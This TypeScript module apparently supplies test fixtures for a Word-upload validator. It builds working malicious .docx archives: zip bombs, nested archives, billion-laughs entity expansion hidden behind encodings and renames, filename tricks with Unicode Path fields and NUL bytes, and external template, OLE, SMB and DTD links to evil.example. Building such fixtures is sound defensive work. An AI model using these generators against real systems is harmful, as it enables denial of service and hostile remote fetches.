/** Word documents that expand hugely or link to other places; none is larger than about a megabyte. */
import { constants, crc32, deflateRawSync } from 'node:zlib';

export type PackedEntry = {
  name: string | Buffer;
  packed: Buffer;
  /** Size declared by the directory and by the header of the part. */
  size: number;
  isDeflated?: boolean;
  /** Offset declared by the directory; the real one by default. */
  at?: number;
  extra?: Buffer;
  headerExtra?: Buffer;
};

const EMPTY = Buffer.alloc(0);

const MEGABYTE = 1_048_576;
const FILLER = Buffer.alloc(MEGABYTE);
const LAST_BLOCK = Buffer.from([3, 0]);

/** Compressed zeros, a thousand to one, as a repetition of independent blocks. */
export function packedZeros(megabytes: number): Buffer {
  const block = deflateRawSync(FILLER, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([...Array<Buffer>(megabytes).fill(block), LAST_BLOCK]);
}

export const entry = (name: string, content: string | Buffer): PackedEntry => ({
  name,
  packed: deflateRawSync(content),
  size: Buffer.byteLength(content),
});

const typesOf = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

export const relationships = (...list: { type: string; target: string; mode?: string }[]): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
    .map(
      ({ type, target, mode }, index) =>
        `<Relationship Id="r${index}" Type="${typesOf}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`,
    )
    .join('')}</Relationships>`;

export const WORD_ENTRIES: PackedEntry[] = [
  entry('[Content_Types].xml', '<Types/>'),
  entry('_rels/.rels', relationships({ type: 'officeDocument', target: 'word/document.xml' })),
  entry('word/document.xml', '<w:document/>'),
];

type Archive = {
  /** Count declared by the end record. */
  entryCount?: number;
};

export function packedZip(entries: PackedEntry[], { entryCount = entries.length }: Archive = {}): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, packed, size, isDeflated = true, at = offset, ...more } of entries) {
    const { extra = EMPTY, headerExtra = EMPTY } = more;
    const path = typeof name === 'string' ? Buffer.from(name) : name;
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(0x800, 2);
    facts.writeUInt16LE(isDeflated ? 8 : 0, 4);
    facts.writeUInt32LE(crc32(packed), 10);
    facts.writeUInt32LE(packed.length, 14);
    facts.writeUInt32LE(size, 18);
    facts.writeUInt16LE(path.length, 22);
    const ofDirectory = Buffer.from(facts);
    ofDirectory.writeUInt16LE(extra.length, 24);
    facts.writeUInt16LE(headerExtra.length, 24);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    directory.push(Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), ofDirectory, place, path, extra);
    if (at !== offset) continue;
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004'), facts, path, headerExtra, packed]);
    locals.push(local);
    offset += local.length;
  }
  const table = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 0, 'latin1');
  end.writeUInt16LE(entryCount & 0xffff, 8);
  end.writeUInt16LE(entryCount & 0xffff, 10);
  end.writeUInt32LE(table.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, table, end]);
}

export const packedDocx = (...more: PackedEntry[]): Buffer => packedZip([...WORD_ENTRIES, ...more]);

function nested(depth: number): Buffer {
  let inner = packedZip([entry('a.txt', 'a')]);
  for (let level = 1; level < depth; level += 1) inner = packedZip([entry('inner.xlsx', inner)]);
  return inner;
}

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => {
  const before = String.fromCharCode(97 + n);
  return `<!ENTITY ${String.fromCharCode(98 + n)} "${`&${before};`.repeat(10)}">`;
}).join('')}]><w:document>&j;</w:document>`;

const SHIFT_JIS = '<?xml version="1.0" encoding="shift_jis"?><w:ftr/>';

const utf16 = (text: string) => Buffer.from(`\ufeff${text.replace('<?xml version="1.0"?>', '')}`, 'utf16le');

const LINKS_OF_SETTINGS = 'word/_rels/settings.xml.rels';
const EXTERNAL_TEMPLATE = entry(
  LINKS_OF_SETTINGS,
  relationships({ type: 'attachedTemplate', target: 'https://evil.example/a.dotm', mode: 'External' }),
);

/** Renames the settings' links to a picture through the Info-ZIP Unicode Path field, after an unrelated field. */
function secondName(name: string): Buffer {
  const facts = Buffer.alloc(13);
  facts.writeUInt16LE(0xcafe, 0);
  facts.writeUInt16LE(0x7075, 4);
  facts.writeUInt16LE(5 + Buffer.byteLength(name), 6);
  facts.writeUInt8(1, 8);
  facts.writeUInt32LE(crc32(LINKS_OF_SETTINGS), 9);
  return Buffer.concat([facts, Buffer.from(name)]);
}

/** Each entry points at the first part, so that many fit into an acceptable file. */
const manyEntries = (count: number): PackedEntry[] =>
  Array.from({ length: count }, (_, n) => ({
    name: `${n}`,
    packed: Buffer.alloc(0),
    size: 0,
    isDeflated: false,
    at: 0,
  }));

export const bombsByDirectory = (): Record<string, Buffer> => ({
  'a megabyte that becomes a gigabyte': packedDocx({
    name: 'word/media/a.bmp',
    packed: packedZeros(1_024),
    size: 1_024 * MEGABYTE,
  }),
  'forty kilobytes that become forty megabytes': packedDocx({
    name: 'word/media/a.bmp',
    packed: packedZeros(40),
    size: 40 * MEGABYTE,
  }),
  'many parts that together become too much': packedDocx(
    ...Array.from({ length: 60 }, (_, n) => ({
      name: `word/media/${n}.bmp`,
      packed: packedZeros(1),
      size: MEGABYTE,
    })),
  ),
  '65,000 entries': packedZip([...WORD_ENTRIES, ...manyEntries(65_000)]),
  'more entries than the archive says': packedZip([...WORD_ENTRIES, ...manyEntries(2_000)], { entryCount: 3 }),
  'two hundred entries that are one and the same part': packedDocx(
    { name: 'word/0', packed: packedZeros(1), size: MEGABYTE },
    ...Array.from({ length: 199 }, (_, n) => ({
      name: `word/${n + 1}`,
      packed: packedZeros(1),
      size: MEGABYTE,
      at: 0,
    })),
  ),
  'an archive in it': packedDocx(entry('word/a.zip', nested(1))),
  'an external template with the name of a picture as well': packedDocx({
    ...EXTERNAL_TEMPLATE,
    extra: secondName('word/media/a.png'),
  }),
  'an external template that its own header alone names a picture': packedDocx({
    ...EXTERNAL_TEMPLATE,
    headerExtra: secondName('word/media/a.png'),
  }),
  'an external template whose name some read to its end and some to a NUL': packedDocx({
    ...EXTERNAL_TEMPLATE,
    name: `${LINKS_OF_SETTINGS}\0.png`,
  }),
  'a name that is no UTF-8': packedDocx({
    ...EXTERNAL_TEMPLATE,
    name: Buffer.from('word/media/\u00e9.png', 'latin1'),
  }),
});

export const bombsByContent = (): Record<string, Buffer> => ({
  'a gigabyte that says it is a kilobyte': packedDocx({
    name: 'word/media/a.bmp',
    packed: packedZeros(1_024),
    size: 1_000,
  }),
  'twenty archives one in the other': packedDocx(entry('word/embeddings/a.xlsx', nested(20))),
  'an archive under another name': packedDocx(entry('word/media/image1.png', nested(1))),
  'a billion laughs': packedZip([...WORD_ENTRIES.slice(0, 2), entry('word/document.xml', LAUGHS)]),
  'a billion laughs in UTF-16': packedDocx(entry('word/footer1.xml', utf16(LAUGHS))),
  'a billion laughs behind a long comment': packedDocx(
    entry('word/footer1.xml', LAUGHS.replace('?>', `?><!--${'-x'.repeat(100_000)}-->`)),
  ),
  'a billion laughs under another name': packedDocx(entry('word/footer.bin', LAUGHS)),
  'a billion laughs under the name of a picture': packedDocx(entry('word/media/a.svg', LAUGHS)),
  'a billion laughs in a picture': packedDocx(
    entry('word/media/a.svg', LAUGHS.replace('<!DOCTYPE l', '<!DOCTYPE svg')),
  ),
  'a picture with a document type from elsewhere': packedDocx(
    entry('word/media/a.svg', '<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd"><svg/>'),
  ),
  'a billion laughs behind white space, under another name': packedDocx(
    entry('word/footer.bin', `${' '.repeat(20_000)}${LAUGHS.replace('<?xml version="1.0"?>', '')}`),
  ),
  'a part in an encoding that hides what it says': packedDocx(
    entry('word/footer1.xml', '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE'),
  ),
  'a part in such an encoding, under another name': packedDocx(entry('word/footer.bin', SHIFT_JIS)),
  'a part in such an encoding, under the name of a picture': packedDocx(entry('word/media/a.svg', SHIFT_JIS)),
  'a part that names such an encoding behind white space': packedDocx(
    entry('word/footer1.xml', SHIFT_JIS.replace(' encoding', `${' '.repeat(2_000)}encoding`)),
  ),
  'a part in EBCDIC under another name': packedDocx(entry('word/footer.bin', Buffer.from('4c6fa79493', 'hex'))),
  'a relationship without an end': packedDocx(
    entry('word/_rels/document.xml.rels', `<Relationships><Relationship ${'a'.repeat(500_000)}/></Relationships>`),
  ),
});

const linked = (type: string, target: string, mode = 'External') =>
  packedDocx(entry('word/_rels/document.xml.rels', relationships({ type, target, mode })));

/** Word would load these links by itself. The documents are accepted and their links emptied. */
export const linkedDocuments = (): Record<string, Buffer> => ({
  'an external template': linked('attachedTemplate', 'https://evil.example/a.dotm'),
  'an external template of the network': linked('attachedTemplate', 'file:///\\\\evil.example\\share\\a.dotm'),
  'an external object': linked('oleObject', 'https://evil.example/a.bin'),
  'an external frame': linked('frame', 'https://evil.example/'),
  'an external picture': linked('image', 'https://evil.example/pixel.png'),
  'an external picture of the network': linked('image', 'file://evil.example/share/pixel.png'),
  'an external template that is spelt otherwise': linked('attachedTemplate', 'https://evil.example/', '&#69;xternal'),
});

export const tooManyCharts = (): Buffer =>
  packedDocx(
    ...Array.from({ length: 100 }, (_, n) =>
      entry(`word/embeddings/${n}.xlsx`, packedZip([entry('a.xml', '<a/>'), entry('b', Buffer.alloc(900_000))])),
    ),
    // Lowers the compression ratio of the whole document below the limit.
    { name: 'word/media/a.bin', packed: Buffer.alloc(2 * MEGABYTE, 'a'), size: 2 * MEGABYTE, isDeflated: false },
  );
